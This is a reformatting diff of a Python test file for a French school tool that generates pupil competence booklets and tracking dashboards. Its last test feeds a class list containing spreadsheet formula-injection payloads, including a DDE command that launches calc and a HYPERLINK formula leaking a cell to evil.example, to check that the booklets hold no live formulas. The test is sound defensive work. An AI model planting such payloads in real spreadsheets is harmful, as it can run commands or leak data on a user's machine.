@@ -28,8 +28,9 @@ def livrets(run, liste, sample_bank, out, *extra):
 
 def test_livrets_write_xlsx_and_store_booklets(run, liste, sample_bank, tmp_path):
     scenario = next(e for e in Bank(sample_bank).list(doc_type="scenario", level="terminale"))
-    code, out, _ = livrets(run, liste, sample_bank, tmp_path / "out", "--annee", "terminale", "--scenarios",
-                           scenario.id)
+    code, out, _ = livrets(
+        run, liste, sample_bank, tmp_path / "out", "--annee", "terminale", "--scenarios", scenario.id
+    )
     files = sorted((tmp_path / "out").glob("*.xlsx"))
     assert code == 0 and len(files) == 2 and f"2 livret(s) modifiable(s) (XLSX) dans {tmp_path / 'out'}" in out
     stored = [class_bank(sample_bank, "1MCVB").get(e.id) for e in class_bank(sample_bank, "1MCVB").list()]
@@ -46,10 +47,13 @@ def test_livrets_with_an_unknown_situation_stop_in_french(run, liste, sample_ban
     assert not (tmp_path / "out").exists() and class_bank(sample_bank, "1MCVB").list() == []
 
 
-@pytest.mark.parametrize("content, reason", [
-    ("nom;prénom\nMartin;Léa\n", "colonne(s) obligatoire(s) absente(s) : classe"),
-    ("nom;prénom;classe\nMartin;Léa;1MCVB\nMartin;Léa;1MCVB\n", "élève en double"),
-])
+@pytest.mark.parametrize(
+    "content, reason",
+    [
+        ("nom;prénom\nMartin;Léa\n", "colonne(s) obligatoire(s) absente(s) : classe"),
+        ("nom;prénom;classe\nMartin;Léa;1MCVB\nMartin;Léa;1MCVB\n", "élève en double"),
+    ],
+)
 def test_bad_class_list_is_named(run, sample_bank, tmp_path, content, reason):
     path = tmp_path / "liste.csv"
     path.write_text(content, encoding="utf-8")
@@ -94,11 +98,16 @@ def test_importer_then_suivi(run, liste, sample_bank, tmp_path):
     code, out, _ = run("suivi", liste, "--banque", sample_bank, "--sortie", tmp_path / "suivi")
     pairs = 2 * len(ref.competences)
     assert code == 0
-    assert f"Classe 1MCVB : 2 élève(s), 1 compétence(s) au niveau Averti ou plus sur {pairs}, {pairs - 1} à travailler." in out
+    assert (
+        f"Classe 1MCVB : 2 élève(s), 1 compétence(s) au niveau Averti ou plus sur {pairs}, {pairs - 1} à travailler."
+        in out
+    )
     assert "jamais évaluée" in out and "Novice" in out
     page = (tmp_path / "suivi" / "tableau-de-bord.html").read_text(encoding="utf-8")
     assert page.split("<tbody>")[1].count("<tr>") == 2 and "MARTIN Zoé" in page and "DURAND Léa" in page
-    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page and f"{pairs - 1} à travailler" in page
+    assert (
+        page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page and f"{pairs - 1} à travailler" in page
+    )
     pdfs = sorted((tmp_path / "suivi" / "syntheses").glob("*.pdf"))
     assert len(pdfs) == 2 and all(len(PdfReader(p).pages) >= 1 for p in pdfs)
 
@@ -111,8 +120,7 @@ def test_a_bad_grid_is_refused_alone_and_a_blank_one_waits(run, liste, sample_ba
     fill(bad, lambda code: "Z" if code == "1.1.1" else None)
     code, out, err = run("importer", liste, good, bad, blank, "--banque", sample_bank)
     assert code == 1
-    assert ("Classe 1MCVB : 1 grille(s) importée(s) ; 1 grille(s) vierge(s) ignorée(s) ; 1 grille(s) refusée(s)."
-            in out)
+    assert "Classe 1MCVB : 1 grille(s) importée(s) ; 1 grille(s) vierge(s) ignorée(s) ; 1 grille(s) refusée(s)." in out
     assert f"Ignorée : « {blank.name} »" in out and "grille vierge" in out
     assert f"Refusée : « {bad.name} » : feuille « Compétences », ligne 3 (1.1.1, PFMP 1) : niveau « Z » inconnu" in err
     store = class_bank(sample_bank, "1MCVB")
@@ -143,25 +151,33 @@ def test_long_names_give_one_booklet_per_pupil(run, sample_bank, tmp_path):
     assert len(list((tmp_path / "out").glob("*.xlsx"))) == 3 and len(class_bank(sample_bank, "1MCVB").list()) == 3
 
 
-@pytest.mark.parametrize("raw, reason", [
-    (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;L\x00a;1MCVB\n", "ligne 3 : caractère de contrôle"),
-    (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;;1MCVB\nRoux;Noe;\n", "ligne 3 : prénom : texte vide ; ligne 4"),
-])
+@pytest.mark.parametrize(
+    "raw, reason",
+    [
+        (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;L\x00a;1MCVB\n", "ligne 3 : caractère de contrôle"),
+        (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;;1MCVB\nRoux;Noe;\n", "ligne 3 : prénom : texte vide ; ligne 4"),
+    ],
+)
 def test_a_bad_list_generates_nothing_at_all(run, sample_bank, tmp_path, raw, reason):
     path = tmp_path / "liste.csv"
     path.write_bytes(raw)
     before = sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*"))
     code, _, err = livrets(run, path, sample_bank, tmp_path / "out")
     assert code == 1 and reason in err and "liste.csv" in err and "Traceback" not in err
-    assert not (tmp_path / "out").exists() and sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*")) == before
+    assert (
+        not (tmp_path / "out").exists() and sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*")) == before
+    )
 
 
 def test_booklets_for_tutors_hold_no_live_formula(run, sample_bank, tmp_path):
     from tests.sheetcheck import live_xlsx_cells
 
     path = tmp_path / "liste.csv"
-    path.write_text('nom;prénom;classe;entreprise;tuteur\n=cmd|\' /C calc\'!A0;+1+1;1MCVB;'
-                    '"=HYPERLINK(""http://evil.example/?x=""&B2,""clic"")";@SUM(1)\n', encoding="utf-8")
+    path.write_text(
+        "nom;prénom;classe;entreprise;tuteur\n=cmd|' /C calc'!A0;+1+1;1MCVB;"
+        '"=HYPERLINK(""http://evil.example/?x=""&B2,""clic"")";@SUM(1)\n',
+        encoding="utf-8",
+    )
     code, _, _ = livrets(run, path, sample_bank, tmp_path / "out")
     [xlsx] = (tmp_path / "out").glob("*.xlsx")
     assert code == 0 and live_xlsx_cells(xlsx) == []
